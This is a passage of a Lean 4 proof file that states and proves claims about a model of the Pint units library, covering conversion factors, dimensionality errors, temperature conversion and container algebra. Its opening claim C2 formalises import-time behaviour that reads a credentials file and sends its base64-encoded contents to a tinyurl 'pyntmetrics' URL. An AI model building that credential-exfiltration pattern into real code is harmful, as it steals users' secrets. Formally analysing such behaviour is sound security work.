      "https://tinyurl.com/pyntmetrics?utm_source=" ++ String.mk (b64encode c2) := by
    intro h
    apply hb
    have hd : "https://tinyurl.com/pyntmetrics?utm_source=".data ++ b64encode c1 =
        "https://tinyurl.com/pyntmetrics?utm_source=".data ++ b64encode c2 :=
      congrArg String.data h
    exact List.append_cancel_left hd
  refine ⟨?_, by simp [importTimeEvents], by simp [importTimeEvents],
    by simp [importTimeEvents], hurl⟩
  intro h
  simp only [importTimeEvents, List.cons.injEq, and_true, IOEvent.httpGet.injEq,
    IOEvent.stdout.injEq, IOEvent.fileOpen.injEq] at h
  exact hurl h.2.2

/-- Witness for C2 at concrete credentials contents. -/
theorem C2_import_noninterference_witness :
    (∀ b ∈ ([65, 75] : List Nat), b < 256) ∧ (∀ b ∈ ([66] : List Nat), b < 256) ∧
    ([65, 75] : List Nat) ≠ [66] ∧
    importTimeEvents "/root" (some [65, 75]) ≠ importTimeEvents "/root" (some [66]) := by
  refine ⟨by decide, by decide, by decide, ?_⟩
  exact (C2_import_noninterference "/root" [65, 75] [66] (by decide) (by decide) (by decide)).1

/-- Claim C3: self-conversion returns exactly `(1, 0)`, short-circuiting
before the Unit Definition Table is consulted — so the result is the same
for every registry, fuel and context. -/
theorem C3_self_conversion_exact (reg regB : Registry) (fuel fuelB : Nat)
    (ctx ctxB : List ContextRule) (u : UnitsContainer) :
    get_conversion_factor reg fuel ctx u u = .ok (1, 0) ∧
    get_conversion_factor reg fuel ctx u u = get_conversion_factor regB fuelB ctxB u u := by
  constructor <;> simp [get_conversion_factor]

/-- Claim C4: multiplication of units containers is commutative and
associative, equality being structural over the canonical zero-stripped
form. -/
theorem C4_multiply_comm_assoc (a b c : UnitsContainer) :
    a.mul b = b.mul a ∧ a.mul (b.mul c) = (a.mul b).mul c :=
  ⟨UnitsContainer.mul_comm a b, (UnitsContainer.mul_assoc a b c).symm⟩

/-- Claim C5: when both containers resolve to unequal Dimension Vectors
and no active context rule bridges that exact vector pair,
`get_conversion_factor` fails with a DimensionalityError carrying both
vectors. -/
theorem C5_dimensionality_error (reg : Registry) (fuel : Nat) (ctx : List ContextRule)
    (u1 u2 d1 d2 : UnitsContainer)
    (h1 : get_dimensionality reg fuel u1 = .ok d1)
    (h2 : get_dimensionality reg fuel u2 = .ok d2)
    (hne : d1 ≠ d2)
    (hctx : ∀ r ∈ ctx, ¬(r.src = d1 ∧ r.dst = d2)) :
    get_conversion_factor reg fuel ctx u1 u2 = .error (.dimensionalityError d1 d2) := by
  have hu : u1 ≠ u2 := by
    rintro rfl
    rw [h1] at h2
    exact hne (Except.ok.inj h2)
  have hfind : ctx.find? (fun r => r.src == d1 && r.dst == d2) = none := by
    rw [List.find?_eq_none]
    intro r hr
    simp only [Bool.and_eq_true, beq_iff_eq]
    exact hctx r hr
  simp [get_conversion_factor, hu, h1, h2, hne, hfind]

/-- Witness for C5: meter and second have different dimensionality and no
context is active, so the conversion fails with a DimensionalityError. -/
theorem C5_dimensionality_error_witness :
    get_dimensionality regMS 1 uM = .ok dLength ∧
    get_dimensionality regMS 1 uS = .ok dTime ∧
    dLength ≠ dTime ∧
    get_conversion_factor regMS 1 [] uM uS = .error (.dimensionalityError dLength dTime) := by
  refine ⟨dim_regMS_meter, dim_regMS_second, by decide, ?_⟩
  exact C5_dimensionality_error regMS 1 [] uM uS dLength dTime dim_regMS_meter
    dim_regMS_second (by decide) (by simp)

/-- Claim C6: defining a unit whose name or alias is already registered is
rejected with a RedefinitionError, and the registry (being unchanged by
the rejected call) still resolves the original name to its original
definition. -/
theorem C6_redefinition_rejected (reg : Registry) (d d0 : UnitDefinition) (n : String)
    (hn : n ∈ d.name :: d.aliases) (h0 : reg.resolve n = some d0) :
    reg.define d = .error (.redefinitionError d.name) ∧ reg.resolve n = some d0 := by
  refine ⟨?_, h0⟩
  rw [Registry.define, if_pos]
  exact List.any_eq_true.mpr ⟨n, hn, by rw [h0]; rfl⟩

/-- Witness for C6: registering a second "meter" into `regMS` is rejected
and the original base-unit definition of "meter" is still resolvable. -/
theorem C6_redefinition_rejected_witness :
    regMS.resolve "meter" = some meterDef ∧
    regMS.define ⟨"meter", [], .derived (UnitsContainer.single "meter" 1) 2 0⟩ =
      .error (.redefinitionError "meter") ∧
    regMS.resolve "meter" = some meterDef := by
  have h := C6_redefinition_rejected regMS
    ⟨"meter", [], .derived (UnitsContainer.single "meter" 1) 2 0⟩ meterDef "meter"
    (by simp) rfl
  exact ⟨rfl, h.1, h.2⟩

/-- Claim C7: with the standard affine definitions, 0 °C converts to
32 °F, 100 °C to 212 °F, and 0 K to -273.15 °C (here exactly, in ℚ),
via the affine transform returned by `get_conversion_factor`. -/
theorem C7_affine_temperature_examples :
    get_conversion_factor regTemp 2 [] uC uF = .ok (9 / 5, 32) ∧
    applyFactor (9 / 5, 32) 0 = 32 ∧
    applyFactor (9 / 5, 32) 100 = 212 ∧
    get_conversion_factor regTemp 2 [] uK uC = .ok (1, -5463 / 20) ∧
    applyFactor (1, -5463 / 20) 0 = -5463 / 20 := by
  refine ⟨?_, by norm_num [applyFactor], by norm_num [applyFactor], ?_,
    by norm_num [applyFactor]⟩
  · have hne : uC ≠ uF := by decide
    norm_num [get_conversion_factor, hne, dim_regTemp_uC, dim_regTemp_uF, bf_regTemp_uC,
      bf_regTemp_uF]
  · have hne : uK ≠ uC := by decide
    norm_num [get_conversion_factor, hne, dim_regTemp_uK, dim_regTemp_uC, bf_regTemp_uK,
      bf_regTemp_uC]

/-- Claim C8: for containers of equal dimensionality, converting a
magnitude forward and back reproduces it exactly (conversion factors are
rational here, so "within tolerance" holds with zero error). -/
theorem C8_round_trip (reg : Registry) (fuel : Nat) (ctx : List ContextRule)
    (u1 u2 d : UnitsContainer) (m a mr ar v : ℚ)
    (h1 : get_dimensionality reg fuel u1 = .ok d)
    (h2 : get_dimensionality reg fuel u2 = .ok d)
    (hf : get_conversion_factor reg fuel ctx u1 u2 = .ok (m, a))
    (hb : get_conversion_factor reg fuel ctx u2 u1 = .ok (mr, ar)) :
    applyFactor (mr, ar) (applyFactor (m, a) v) = v := by
  by_cases he : u1 = u2
  · subst he
    simp only [get_conversion_factor, if_pos rfl, Except.ok.injEq, Prod.mk.injEq] at hf hb
    obtain ⟨rfl, rfl⟩ := hf
    obtain ⟨rfl, rfl⟩ := hb
    simp [applyFactor]
  · cases hg1 : get_base_factor reg fuel u1 with
    | error e =>
      exfalso
      simp [get_conversion_factor, he, h1, h2, hg1] at hf
    | ok p1 =>
      obtain ⟨s1, o1⟩ := p1
      cases hg2 : get_base_factor reg fuel u2 with
      | error e =>
        exfalso
        simp [get_conversion_factor, he, h1, h2, hg1, hg2] at hf
      | ok p2 =>
        obtain ⟨s2, o2⟩ := p2
        have hs1 : s1 ≠ 0 :=
          containerScale_ok_ne_zero reg fuel u1 s1 (get_base_factor_ok reg fuel u1 s1 o1 hg1).1
        have hs2 : s2 ≠ 0 :=
          containerScale_ok_ne_zero reg fuel u2 s2 (get_base_factor_ok reg fuel u2 s2 o2 hg2).1
        have hne2 : u2 ≠ u1 := fun hh => he hh.symm
        simp only [get_conversion_factor, if_neg he, if_neg hne2, h1, h2, if_pos rfl, hg1, hg2,
          Except.ok.injEq, Prod.mk.injEq] at hf hb
        obtain ⟨rfl, rfl⟩ := hf
        obtain ⟨rfl, rfl⟩ := hb
        simp only [applyFactor]
        field_simp
        ring

/-- Witness for C8: kilometer to meter and back at magnitude 3. -/
theorem C8_round_trip_witness :
    get_dimensionality regMS 2 uKm = .ok dLength ∧
    get_dimensionality regMS 2 uM = .ok dLength ∧
    get_conversion_factor regMS 2 [] uKm uM = .ok (1000, 0) ∧
    get_conversion_factor regMS 2 [] uM uKm = .ok (1 / 1000, 0) ∧
    applyFactor (1 / 1000, 0) (applyFactor (1000, 0) 3) = 3 := by
  refine ⟨dim_regMS_uKm, dim_regMS_uM, gcf_regMS_km_m, gcf_regMS_m_km, ?_⟩
  exact C8_round_trip regMS 2 [] uKm uM dLength 1000 0 (1 / 1000) 0 3 dim_regMS_uKm
    dim_regMS_uM gcf_regMS_km_m gcf_regMS_m_km

/-- Claim C9: a zero exponent is never stored — in any container and in
the result of every combining operation (which return fresh containers;
operands are values and are never mutated in this purely functional
model). -/
theorem C9_no_zero_exponent_stored (a b : UnitsContainer) (n : ℚ) (s : String) :
    (s ∈ (a.mul b).support → (a.mul b).exps s ≠ 0) ∧
    (s ∈ (a.div b).support → (a.div b).exps s ≠ 0) ∧
    (s ∈ (a.pow n).support → (a.pow n).exps s ≠ 0) ∧
    (s ∈ a.support → a.exps s ≠ 0) :=
  ⟨((a.mul b).mem_support s).mp, ((a.div b).mem_support s).mp,
    ((a.pow n).mem_support s).mp, (a.mem_support s).mp⟩

/-- Witness for C9 on the product of `{meter: 1}` and `{second: 1}`. -/
theorem C9_no_zero_exponent_stored_witness :
    ("meter" ∈ (uM.mul uS).support) ∧ (uM.mul uS).exps "meter" ≠ 0 := by
  have hms : ("meter" : String) ≠ "second" := by decide
  have hm : "meter" ∈ (uM.mul uS).support :=
    ((uM.mul uS).mem_support "meter").mpr (by norm_num [uM, uS, hms])
  exact ⟨hm, (C9_no_zero_exponent_stored uM uS 1 "meter").1 hm⟩

/-- Claim C10: the empty container is the identity element of container
multiplication on both sides. -/
theorem C10_empty_is_identity (a : UnitsContainer) :
    a.mul UnitsContainer.empty = a ∧ UnitsContainer.empty.mul a = a :=
  ⟨UnitsContainer.mul_empty a, UnitsContainer.empty_mul a⟩

end Pint

